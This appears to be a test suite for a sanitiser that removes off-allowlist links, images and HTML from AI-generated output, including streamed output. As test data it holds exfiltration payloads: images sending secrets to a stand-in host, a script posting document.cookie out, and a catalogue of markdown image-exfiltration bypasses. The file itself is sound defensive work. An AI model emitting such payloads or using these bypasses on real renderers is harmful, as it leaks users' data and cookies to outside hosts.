import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createOutputSanitizer, sanitizeOutput } from '../../src/guard/index.js';

const options = { allowedLinkHosts: ['docs.mistral.ai', '*.example.com'], stripHtml: true };

test('an image to an off-list host is removed, keeping its alt text', () => {
  const out = sanitizeOutput('Done ![status](https://evil.test/p.png?d=SECRET123) ok', options);
  assert.equal(out, 'Done status ok');
});

test('links keep their text and lose an off-list URL; allowed hosts stay untouched', () => {
  const text =
    'See [docs](https://docs.mistral.ai/api) and [this](http://evil.test/?q=abc) and [sub](https://a.example.com/x).';
  assert.equal(
    sanitizeOutput(text, options),
    'See [docs](https://docs.mistral.ai/api) and this and [sub](https://a.example.com/x).',
  );
});

test('reference definitions and autolinks to off-list hosts are neutralised', () => {
  const text = '![x][r]\n[r]: https://evil.test/i.png?d=1\n<https://evil.test/?leak=1>';
  const out = sanitizeOutput(text, options);
  assert.ok(!out.includes('evil.test'), out);
});

test('javascript and data URLs are never allowed', () => {
  const out = sanitizeOutput('[a](javascript:alert(1)) ![b](data:image/png;base64,AAAA)', options);
  assert.ok(!out.includes('javascript:') && !out.includes('data:'), out);
});

test('HTML is stripped with script content, or only scripts and off-list embeds are removed', () => {
  const html =
    'a<script>fetch("//evil.test?"+document.cookie)</script><b>bold</b><img src="https://evil.test/x.png">z';
  assert.equal(sanitizeOutput(html, options), 'aboldz');
  assert.equal(sanitizeOutput(html, { ...options, stripHtml: false }), 'a<b>bold</b>z');
});

test('the streaming sanitiser equals the whole-text one at every split point', () => {
  const text =
    'Intro ![s](https://evil.test/p.png?d=S) [ok](https://docs.mistral.ai/x) <script>x()</script> <b>b</b> [r]: https://evil.test/\nend [a](http://evil.test/x)';
  const whole = sanitizeOutput(text, options);
  for (let i = 0; i <= text.length; i++) {
    for (let j = i; j <= text.length; j += 7) {
      const s = createOutputSanitizer(options);
      const out =
        s.push(text.slice(0, i)) + s.push(text.slice(i, j)) + s.push(text.slice(j)) + s.end();
      assert.equal(out, whole, `split ${i}/${j}`);
    }
  }
});

test('plain prose streams through the sanitiser without delay', () => {
  const s = createOutputSanitizer(options);
  assert.equal(s.push('Hello, this is plain text. '), 'Hello, this is plain text. ');
  assert.equal(s.push('A link [x'), 'A link ');
});

// Off-list images that a markdown renderer (markdown-it, marked) would still have loaded.
const EVIL = 'https://evil.example/p.png?q=S';
const BYPASSES: Record<string, string> = {
  'title in parentheses': `![x](${EVIL} (t))`,
  'URL over 2,048 characters': `![x](${EVIL}${'a'.repeat(2100)})`,
  'alt text over 500 characters': `![${'a'.repeat(600)}](${EVIL})`,
  'alt text with an escaped bracket': `![a\\]b](${EVIL})`,
  'alt text with a nested bracket pair': `![a [b] c](${EVIL})`,
  'alt text over two lines': `![a\nb](${EVIL})`,
  'destination in angle brackets with a space': '![x](<https://evil.example/a b.png>)',
  'more than 8 spaces before the URL': `![x](${' '.repeat(12)}${EVIL})`,
  'reference with its URL on the next line': `![x][r]\n\n[r]:\n  ${EVIL}\n`,
  'reference inside a blockquote': `> ![x][r]\n>\n> [r]: ${EVIL}\n`,
  'reference inside a blockquote, URL on the next line': `> ![x][r]\n>\n> [r]:\n> ${EVIL}\n`,
  'img tag with 1,100 characters of alt': `<img src="${EVIL}" alt="${'a'.repeat(1100)}">`,
  'img tag in the alt text of a removed image': `![<img src="${EVIL}">](https://evil.example/z)`,
  'bang joined to a removed autolink': `!<https://evil.example/>(${EVIL})`,
  'bang joined to a removed tag': `!<b></b>[x][r]\n\n[r]: ${EVIL}`,
  'angle bracket joined to alt text': `<![img](https://evil.example/z) src="${EVIL}">`,
  'link inside the alt text': `![a [b](https://evil.example/z) c](${EVIL})`,
  'allowed URL with a backslash before @': '![x](https://docs.mistral.ai\\@evil.example/p.png)',
  'allowed URL with an entity for @': '<img src="https://docs.mistral.ai&#64;evil.example/x">',
  'code span hiding the allowed destination': `![\`](https://docs.mistral.ai/x.png)\`](${EVIL})`,
  'raw tag hiding the allowed destination': `![<span title="](https://docs.mistral.ai/x.png)">](${EVIL})`,
  'escaped bracket before an allowed link': `\\[a](https://docs.mistral.ai/x "<img src=${EVIL}>")`,
  'srcset next to an allowed src': `<img src="https://docs.mistral.ai/a.png" srcset="${EVIL} 2x">`,
};

// True when `out` could still make a renderer load an image or open a tag: an unescaped `![`,
// or (stripping HTML) a `<` that starts a tag, or any img tag at all.
function mayLoad(out: string, stripHtml: boolean): boolean {
  if (/!\[/.test(out) || /<img/i.test(out)) return true;
  return stripHtml && /<[A-Za-z/!?]/.test(out);
}

function streamedIn(text: string, size: number, opts: typeof options): string {
  const s = createOutputSanitizer(opts);
  let out = '';
  for (let i = 0; i < text.length; i += size) out += s.push(text.slice(i, i + size));
  return out + s.end();
}

for (const stripHtml of [true, false]) {
  test(`no off-list image survives the known bypasses (stripHtml ${stripHtml})`, () => {
    const opts = { ...options, stripHtml };
    for (const [name, text] of Object.entries(BYPASSES)) {
      const whole = sanitizeOutput(text, opts);
      assert.ok(!mayLoad(whole, stripHtml), `${name}: ${JSON.stringify(whole.slice(0, 120))}`);
      for (const size of [1, 3, 64])
        assert.equal(streamedIn(text, size, opts), whole, `${name}/${size}`);
    }
  });
}

test('off-list reference definitions are removed in blockquotes and over two lines', () => {
  const text = '> > [r]:\n> > https://evil.test/i.png "t"\n\n   [s]: <https://evil.test/x y>\n';
  const out = sanitizeOutput(text, options);
  assert.ok(!out.includes('evil.test'), out);
  const kept = '> [d]: https://docs.mistral.ai/x\n';
  assert.equal(sanitizeOutput(kept, options), kept);
});

test('allowed images and links stay as written', () => {
  const text = '![a](https://docs.mistral.ai/a.png "t") and [b](<https://x.example.com/b c>)';
  assert.equal(sanitizeOutput(text, options), text);
});

test('escaping leaves prose and code comparisons alone and keeps markdown-visible text', () => {
  assert.equal(
    sanitizeOutput('Wow! [1] a < b, c<d, x <= y', options),
    'Wow! [1] a < b, c&lt;d, x <= y',
  );
  assert.equal(
    sanitizeOutput('if (i<n) ![x][r]', { ...options, stripHtml: false }),
    'if (i<n) !\\[x][r]',
  );
});

test('the sanitiser holds back only what can still become a link, image or tag', () => {
  const s = createOutputSanitizer(options);
  assert.equal(s.push('Hello! '), 'Hello! ');
  assert.equal(s.push('Mail [REDACTED:EMAIL] now. '), 'Mail [REDACTED:EMAIL] now. ');
  assert.equal(s.push('Done! [REDACTED:EMAIL]'), 'Done! ');
  assert.equal(s.push(', thanks!'), '[REDACTED:EMAIL], thanks');
  assert.equal(s.push(' See [docs] here. '), '! See [docs] here. ');
  assert.equal(s.push('[a](https://docs.mis'), '');
  assert.equal(s.push('tral.ai/x) ok'), '[a](https://docs.mistral.ai/x) ok');
  assert.equal(s.end(), '');
});

test('streamed prose with exclamation marks and placeholders is held back a few characters', () => {
  const text =
    'Great! Your address [REDACTED:EMAIL] is saved!\nCall [REDACTED:PHONE]. Really!? Wow!! ' +
    '[REDACTED:CARD] and [REDACTED:IBAN], [1] [see above] end! '.repeat(3);
  const whole = sanitizeOutput(text, options);
  assert.equal(whole, text);
  for (const size of [1, 2, 5, 17]) {
    const s = createOutputSanitizer(options);
    let out = '';
    for (let i = 0; i < text.length; i += size) {
      out += s.push(text.slice(i, i + size));
      const held = Math.min(text.length, i + size) - out.length;
      assert.ok(held <= 20 + size, `held ${held} with pieces of ${size}`);
    }
    assert.equal(out + s.end(), whole, `pieces of ${size}`);
  }
});

test('streamed placeholders turned into links or images equal the whole-text result', () => {
  const text =
    'Hi! [REDACTED:CARD](https://evil.test/) and ![REDACTED:EMAIL](https://evil.test/p.png)\n' +
    '[REDACTED:EMAIL]: https://evil.test/x\n<b>end</b>!';
  const whole = sanitizeOutput(text, options);
  assert.ok(!whole.includes('evil.test') && !whole.includes('!['), whole);
  for (const size of [1, 2, 5, 17]) {
    assert.equal(streamedIn(text, size, options), whole, `pieces of ${size}`);
  }
});

// CPU milliseconds to sanitise `text` streamed in 4-character pieces, fastest of three.
function streamCpu(text: string): number {
  let best = Infinity;
  for (let round = 0; round < 3; round++) {
    const started = process.cpuUsage();
    streamedIn(text, 4, options);
    const used = process.cpuUsage(started);
    best = Math.min(best, (used.user + used.system) / 1000);
  }
  return best;
}

test('streaming sanitiser work grows linearly, even while constructs stay open', () => {
  const units = [
    '[x](',
    '<script>',
    '<!--',
    '![',
    '\n[r]: ',
    '[a](xxxxxxxxxxxxxxxxxxxxxxxx',
    'a<b ',
  ];
  for (const unit of units) {
    const small = unit.repeat(Math.ceil(20_000 / unit.length));
    const t1 = streamCpu(small);
    const t4 = streamCpu(small.repeat(4));
    assert.ok(t4 / Math.max(t1, 1) < 8, `${JSON.stringify(unit)}: ${t1} ms, then ${t4} ms`);
  }
});
